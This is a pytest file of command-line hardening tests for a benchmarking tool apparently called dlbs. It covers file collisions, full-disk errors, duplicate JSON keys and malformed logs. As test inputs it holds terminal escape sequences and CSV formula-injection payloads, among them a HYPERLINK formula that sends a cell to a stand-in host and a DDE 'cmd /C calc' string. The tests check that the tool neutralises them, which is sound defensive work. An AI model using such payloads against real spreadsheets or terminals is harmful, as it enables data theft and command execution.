"""Issue 24 (hardening, round three) at the command line: each defect as a user meets it.

The item's number is in each test's name; `dlbs` runs as a subprocess and is judged by its
exit status, its output and what it left on disk.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.cli.test_plan_cli import assert_one_error_line

DUMMY = ["-P", "exp.framework=dummy", "-P", "exp.num_batches=2", "-P", "exp.num_warmup_batches=0",
         "-P", "exp.model=resnet18", "-V", "exp.replica_batch=[1,2]"]


# -- 1: every file a run writes is contained and never shared ---------------------------------
def test_1_a_trace_never_replaces_another_experiment_s_log(dlbs_cli, tmp_path):
    other = tmp_path / "logs" / "other.log"
    other.parent.mkdir()
    other.write_text("__exp.id__=\"other\"\n__results.time__=1.0\n")
    result = dlbs_cli("run", *DUMMY, "-V", "exp.replica_batch=[1]", "-P", "exp.trace_level=step",
                      "-P", f"exp.trace_file={other}", cwd=tmp_path)
    assert_one_error_line(result, "exp.trace_file", "is a file that is not a trace dlbs wrote")
    assert other.read_text() == "__exp.id__=\"other\"\n__results.time__=1.0\n"
    assert not list(other.parent.glob("dummy_*.log")), "nothing may have run"


@pytest.mark.parametrize("command", ["validate", "run"])
def test_1_a_constant_trace_file_across_a_sweep_is_refused(dlbs_cli, tmp_path, command):
    result = dlbs_cli(command, *DUMMY, "-P", "exp.trace_level=step",
                      "-P", "exp.trace_file=logs/one.trace.json.gz", cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    assert "experiments #1 and #2 write the same trace file 'logs/one.trace.json.gz'" in \
        result.stdout + result.stderr
    assert not (tmp_path / "logs").exists() or not list((tmp_path / "logs").glob("*.log"))


def test_1_a_traced_sweep_writes_one_trace_per_experiment(dlbs_cli, tmp_path):
    result = dlbs_cli("run", *DUMMY, "-P", "exp.trace_level=step", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert len(list((tmp_path / "logs").glob("*.trace.json.gz"))) == 2


@pytest.mark.parametrize("plan_file", [False, True])
def test_1_a_container_s_writable_mount_of_etc_for_the_trace_is_warned_of(dlbs_cli, tmp_path,
                                                                           plan_file):
    params = ["-P", "exp.docker=true", "-P", "exp.trace_level=step",
              "-P", "exp.trace_file=/etc/${exp.id}.trace.json.gz"]
    if plan_file:
        _plan(dlbs_cli, tmp_path, *params)
        result = dlbs_cli("run", "--plan", "plan.json", "--dry-run", cwd=tmp_path)
    else:
        result = dlbs_cli("run", *DUMMY, *params, "--dry-run", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "dlbs: warning: exp.trace_file: a writable mount of /etc gives the container the " \
           "host's /etc (2 experiments; see docs/security.md)" in result.stderr.splitlines()


# -- 7: `run --plan` checks what `run --config` checks ------------------------------------------
def _plan(dlbs_cli, tmp_path: Path, *params: str) -> list[dict]:
    result = dlbs_cli("plan", *DUMMY, *params, "-o", "plan.json", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    return json.loads((tmp_path / "plan.json").read_text())


@pytest.mark.parametrize("name, fragment", [
    ("exp.log_file", "experiments #1 and #2 write the same log file"),
    ("exp.trace_file", "experiments #1 and #2 write the same trace file"),
])
def test_7_run_plan_refuses_two_experiments_writing_one_file(dlbs_cli, tmp_path, name,
                                                                fragment):
    plan = _plan(dlbs_cli, tmp_path, "-P", "exp.trace_level=step")
    plan[1][name] = plan[0][name]
    (tmp_path / "plan.json").write_text(json.dumps(plan))
    for extra in ([], ["--dry-run"]):
        result = dlbs_cli("run", "--plan", "plan.json", *extra, cwd=tmp_path)
        assert_one_error_line(result, fragment)
    assert not (tmp_path / "logs").exists()


# -- 7: outputs ------------------------------------------------------------------------------
LOG = ('__exp.id__="a"\n__exp.framework__="dummy"\n__exp.model__="m"\n__exp.replica_batch__=1\n'
       '__results.status__="ok"\n__results.time__=1.0\n__results.throughput__=2.0\n')


def _full(tmp_path: Path, *argv: str, stderr_too: bool = False):
    import subprocess
    import sys

    from tests.conftest import REPO

    with open("/dev/full", "w") as full:
        return subprocess.run([sys.executable, "-m", "dlbs.cli.main", *argv], cwd=tmp_path,
                              stdout=full, stderr=full if stderr_too else subprocess.PIPE,
                              text=True, timeout=300, env={"PYTHONPATH": str(REPO),
                                                           "PATH": "/usr/bin:/bin"})


@pytest.mark.parametrize("argv", [
    ["plan", *DUMMY], ["plan", *DUMMY, "--format", "table"], ["validate", *DUMMY],
    ["print-config", *DUMMY], ["help", "--params", "exp.model"], ["list", "frameworks"],
    ["list", "targets"], ["parse", "a.log"], ["report", "a.log"],
    ["report", "a.log", "--format", "csv"], ["report", "a.log", "--format", "json"],
    ["report", "a.log", "--format", "html"], ["compare", "a.log", "a.log"],
    ["run", *DUMMY, "--dry-run"], ["run", *DUMMY, "--dry-run", "--format", "json"],
    ["--help"], ["--version"], ["plan", "--help"], ["report", "--help"],
])
def test_7_writing_to_a_full_disk_is_one_error_line(tmp_path, argv):
    (tmp_path / "a.log").write_text(LOG)
    result = _full(tmp_path, *argv)
    assert result.returncode == 2, result.stderr
    assert result.stderr == "dlbs: error: cannot write the output: No space left on device\n"


def test_7_a_full_standard_error_too_ends_quietly_with_an_error_status(tmp_path):
    result = _full(tmp_path, "plan", "-P", "exp.log_dir=", stderr_too=True)
    assert result.returncode == 2


@pytest.mark.parametrize("database, kind", [
    ("/dev/null", "a device"), ("/dev/zero", "a device"), ("folder", "a folder"),
    ("fifo", "a FIFO")])
def test_7_a_results_database_that_is_no_file_leaves_no_lock_beside_it(dlbs_cli, tmp_path,
                                                                        database, kind):
    import os

    (tmp_path / "folder").mkdir()
    os.mkfifo(tmp_path / "fifo")
    before = set(os.listdir("/dev"))
    result = dlbs_cli("run", *DUMMY, "-P", f"runtime.results_db={database}", cwd=tmp_path)
    assert_one_error_line(result, f"results database {database} is {kind}, not a regular file")
    assert set(os.listdir("/dev")) == before
    assert not [name for name in os.listdir(tmp_path) if name.endswith(".lock")]


ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m\r\u202e\x9b"


def test_7_escapes_in_values_never_reach_the_terminal_raw_in_run(dlbs_cli, tmp_path):
    escapes = ESCAPES.replace("\r", "")  # a carriage return may not go into a log's name
    result = dlbs_cli("run", *DUMMY[:-2], "-V", "exp.replica_batch=[1]",
                      "-P", f"exp.model=resnet18{escapes}", "--progress", "lines", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    text = result.stdout + result.stderr
    assert not any(character in text for character in "\x1b\x07\r\u202e\x9b"), text
    assert "\\x1b]0;owned\\x07" in text
    dry = dlbs_cli("run", *DUMMY[:-2], "-V", "exp.replica_batch=[1]",
                   "-P", f"exp.model=resnet18{escapes}", "--dry-run", cwd=tmp_path)
    assert "\x1b" not in dry.stdout + dry.stderr and "\\x1b[31m" in dry.stdout


def test_7_escapes_in_values_never_reach_the_terminal_raw_in_reports(dlbs_cli, tmp_path):
    log = tmp_path / "a.log"
    log.write_text(LOG.replace('"m"', json.dumps(f"m{ESCAPES}")) +
                   f'__exp.note__={json.dumps(ESCAPES)}\n')
    for argv in (["report", "a.log"], ["report", "a.log", "--format", "markdown"],
                 ["report", "a.log", "--by", "exp.model"], ["compare", "a.log", "a.log"],
                 ["plan", "-P", f"exp.model={ESCAPES}", "--format", "table"],
                 ["validate", "-P", f"exp.model={ESCAPES}", "-P", "exp.log_dir="],
                 ["report", f"{ESCAPES}.log"]):
        result = dlbs_cli(*argv, cwd=tmp_path)
        text = result.stdout + result.stderr
        assert not any(character in text for character in "\x1b\x07\u202e\x9b"), (argv, text)
    # Machine formats keep the value exactly.
    parsed = json.loads(dlbs_cli("parse", "a.log", cwd=tmp_path).stdout)
    assert parsed["experiments"][0]["exp.model"] == f"m{ESCAPES}"


def test_7_csv_text_cells_never_run_as_formulas(dlbs_cli, tmp_path):
    import csv
    import io

    values = {"exp.model": "=HYPERLINK(\"http://x/?\"&A1)", "exp.a": "+1+cmd|' /C calc'!A0",
              "exp.b": "-2+3", "exp.c": "@SUM(A1)", "exp.d": "\t=1", "exp.e": "-1.5",
              "exp.f": "+3", "exp.g": "plain", "exp.h": -4, "exp.i": "-"}
    (tmp_path / "a.log").write_text(LOG.replace('__exp.model__="m"\n', "") + "".join(
        f"__{key}__={json.dumps(value)}\n" for key, value in values.items()))
    for argv in (["parse", "a.log", "-o", "out.csv"], ["report", "a.log", "--format", "csv",
                                                        "--by", ",".join(values)]):
        result = dlbs_cli(*argv, cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        text = (tmp_path / "out.csv").read_text() if "-o" in argv else result.stdout
        row = dict(zip(*csv.reader(io.StringIO(text))))
        row.setdefault("exp.model", row.get("model"))  # a report's name of the column
        for key in ("exp.model", "exp.a", "exp.b", "exp.c", "exp.d"):
            assert row[key] == "'" + values[key], (argv, key, row[key])
        assert (row["exp.e"], row["exp.f"], row["exp.g"], row["exp.h"]) == \
            ("-1.5", "+3", "plain", "-4")
    plan = dlbs_cli("plan", "-P", "exp.model==1+1", "-P", "exp.framework=dummy", "--format",
                    "csv", "--keys", "exp.model,exp.replica_batch", cwd=tmp_path)
    assert plan.stdout.splitlines()[1] == "'=1+1,16", plan.stdout


@pytest.mark.parametrize("where, argv", [
    ("spec", ["-c", "s.json"]), ("-P", ["-P", 'exp.model={"a": 1, "a": 2}']),
    ("-E", ["-E", '{"condition": {"a": "1", "a": "2"}, "parameters": {}}']),
    ("nested", ["-c", "nested.json"]),
])
def test_7_json_specs_refuse_a_key_twice(dlbs_cli, tmp_path, where, argv):
    (tmp_path / "s.json").write_text('{"parameters": {"exp.model": "a", "exp.model": "b"}}')
    (tmp_path / "nested.json").write_text('{"parameters": {"x": {"val": {"k": 1, "k": 2}}}}')
    assert_one_error_line(dlbs_cli("plan", *argv, cwd=tmp_path), "found duplicate key")


@pytest.mark.parametrize("jsonl", [False, True])
def test_7_plan_files_refuse_a_key_twice(dlbs_cli, tmp_path, jsonl):
    plan = _plan(dlbs_cli, tmp_path)
    texts = [json.dumps(experiment) for experiment in plan]
    texts[1] = texts[1].replace('"exp.model":', '"exp.model": "vgg16", "exp.model":', 1)
    (tmp_path / "plan.json").write_text("\n".join(texts) if jsonl else
                                        "[" + ",".join(texts) + "]")
    result = dlbs_cli("run", "--plan", "plan.json", "--dry-run", cwd=tmp_path)
    assert_one_error_line(result, 'found duplicate key "exp.model"')


@pytest.mark.parametrize("params, blamed", [
    (["-P", "exp.model=a\nb"], "parameter 'exp.model': value 'a\\nb' holds a line break"),
    (["-P", "exp.data_dir=/data/O'Brien"],
     "parameter 'exp.data_dir': value \"/data/O'Brien\" holds a quote"),
    (["-V", "exp.model=[\"a'b\"]"], "parameter 'exp.model': value \"a'b\" holds a quote"),
    (["-P", "exp.data_dir=/d\\"], "parameter 'exp.data_dir': value '/d\\\\' holds a backslash"),
])
def test_7_an_odd_value_is_blamed_not_the_default_config(dlbs_cli, tmp_path, params, blamed):
    result = dlbs_cli("plan", "-P", "exp.framework=pytorch", "-P", "exp.trace_level=step",
                      *params, cwd=tmp_path)
    assert_one_error_line(result, blamed)
    assert "configs/" not in result.stderr


# -- 5, 6: logs that lie or would take the memory --------------------------------------------
@pytest.mark.parametrize("command", [["report"], ["parse"], ["report", "--format", "csv"],
                                     ["compare", "rand.log"]])
def test_6_a_named_file_that_is_no_log_is_an_error(dlbs_cli, tmp_path, command):
    import random

    (tmp_path / "rand.log").write_bytes(random.Random(24).randbytes(100_000).replace(b"__", b"_"))
    result = dlbs_cli(*command, "rand.log", cwd=tmp_path)
    assert_one_error_line(result, "rand.log holds no protocol line")


def test_6_a_folder_passes_over_files_that_are_no_logs(dlbs_cli, tmp_path):
    (tmp_path / "logs").mkdir()
    (tmp_path / "logs" / "rand.log").write_bytes(b"\x00\xff junk\n")
    (tmp_path / "logs" / "a.log").write_text(LOG)
    result = dlbs_cli("parse", "logs", cwd=tmp_path)
    assert result.returncode == 0 and "1 file(s) without protocol lines ignored" in result.stderr


def test_6_a_report_over_a_folder_counts_what_the_database_recorded(dlbs_cli, tmp_path):
    import csv
    import io

    from dlbs.results.store import open_store

    logs = tmp_path / "logs"
    logs.mkdir()
    (logs / "a.log").write_text(LOG.replace('__results.status__="ok"\n', "") +
                                "__results.time_data__=[1.0]\n")
    (logs / "a.attempt2.log").write_text(LOG.replace("1.0", "3.0") +
                                         "__results.time_data__=[3.0]\n")
    params = {"exp.id": "a", "exp.framework": "dummy", "exp.model": "m",
              "exp.replica_batch": 1, "exp.effective_batch": 1}
    with open_store(logs / "results.db") as store:
        store.record_start("a", 1, params, log_path="logs/a.log")
        store.record_end("a", 1, "interrupted", status_msg="stopped by SIGINT",
                         results={"results.time": 1.0, "results.time_data": [1.0]})
        store.record_start("a", 2, params, log_path="logs/a.attempt2.log")
        store.record_end("a", 2, "ok", results={"results.time": 3.0,
                                                "results.time_data": [3.0]})
    for inputs in (["logs"], ["logs/a.log", "logs/a.attempt2.log"]):
        result = dlbs_cli("report", *inputs, "--runs", "each", "--format", "csv",
                          cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        rows = list(csv.DictReader(io.StringIO(result.stdout)))
        assert [row["time_ms"] for row in rows] == ["3.0"], result.stdout  # not the 1.0
    parsed = json.loads(dlbs_cli("parse", "logs/a.log", cwd=tmp_path).stdout)
    assert parsed["experiments"][0]["results.status"] == "interrupted"


def test_6_a_cut_log_is_a_failure_and_parse_says_so(dlbs_cli, tmp_path):
    (tmp_path / "a.log").write_text(LOG.replace('__results.status__="ok"\n', "").replace(
        "__results.time__=1.0\n", "") + "__results.time__=50.0")
    result = dlbs_cli("parse", "a.log", cwd=tmp_path)
    assert "1 log(s) cut short inside a number" in result.stderr
    assert json.loads(result.stdout)["experiments"][0]["results.status"] == "failure"
    report = dlbs_cli("report", "a.log", cwd=tmp_path)
    assert "50.0" not in report.stdout


def test_6_huge_times_give_a_time_and_no_warning_in_any_format(dlbs_cli, tmp_path):
    (tmp_path / "a.log").write_text(LOG + "__results.time_data__=[1e308, 1e308]\n")
    for fmt in ("text", "json", "csv", "html"):
        result = dlbs_cli("report", "a.log", "--format", fmt, "-o", f"out.{fmt}", cwd=tmp_path)
        assert result.returncode == 0 and "Warning" not in result.stderr, result.stderr
    parsed = dlbs_cli("parse", "a.log", cwd=tmp_path)
    assert json.loads(parsed.stdout)["experiments"][0]["results.time"] == 1e308
    assert parsed.stderr.count("\n") == 1, parsed.stderr


def test_5_a_long_line_without_a_newline_is_passed_over(dlbs_cli, tmp_path):
    log = tmp_path / "a.log"
    with open(log, "wb") as stream:
        stream.write(LOG.encode() + b'__results.x__="')
        for _ in range(40):
            stream.write(b"y" * 2**20)
    result = dlbs_cli("parse", "a.log", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "1 line(s) longer than 16 MiB passed over" in result.stderr
    assert json.loads(result.stdout)["experiments"][0]["results.status"] == "ok"


@pytest.mark.pytorch
@pytest.mark.mxnet
@pytest.mark.onnxruntime
@pytest.mark.parametrize("package", ["pytorch_benchmarks", "mxnet_benchmarks",
                                     "onnxruntime_benchmarks"])
def test_5_listing_models_with_the_framework_stood_in_for_gives_its_registry_s_ids(package):
    """`dlbs list models` imports no framework (1.1 GB, 10 s before), and misses no id."""
    import subprocess
    import sys

    from tests.conftest import REPO

    lister = [sys.executable, str(REPO / "dlbs" / "cli" / "model_ids.py"),
              str(REPO / "python"), package]
    stood_in = subprocess.run(lister, capture_output=True, text=True, timeout=300)
    real = subprocess.run([*lister, "--real"], capture_output=True, text=True, timeout=300)
    assert stood_in.returncode == 0 and real.returncode == 0, stood_in.stderr + real.stderr
    assert json.loads(stood_in.stdout) == json.loads(real.stdout)


def test_5_the_stand_ins_fall_back_to_the_framework_when_a_registry_needs_it(tmp_path):
    import subprocess
    import sys

    from tests.conftest import REPO

    package = tmp_path / "needs_benchmarks" / "models"
    package.mkdir(parents=True)
    (tmp_path / "needs_benchmarks" / "__init__.py").write_text("")
    (package / "__init__.py").write_text("")
    # Ids that only the real package can name: the stand-in finds none.
    (package / "registry.py").write_text(
        "import json\n\ndef model_ids():\n    return sorted(json.loads('[\"a\", \"b\"]')) "
        "if hasattr(json, 'loads') else []\n")
    lister = [sys.executable, str(REPO / "dlbs" / "cli" / "model_ids.py"), str(tmp_path),
              "needs_benchmarks"]
    assert json.loads(subprocess.run(lister, capture_output=True, text=True).stdout) == \
        ["a", "b"]
    (package / "registry.py").write_text(
        "import torch\n\ndef model_ids():\n    return list(torch.hub.list_ids())\n")
    stood_in = subprocess.run(lister, capture_output=True, text=True)
    assert stood_in.returncode == 1 and "no model ids" in stood_in.stderr
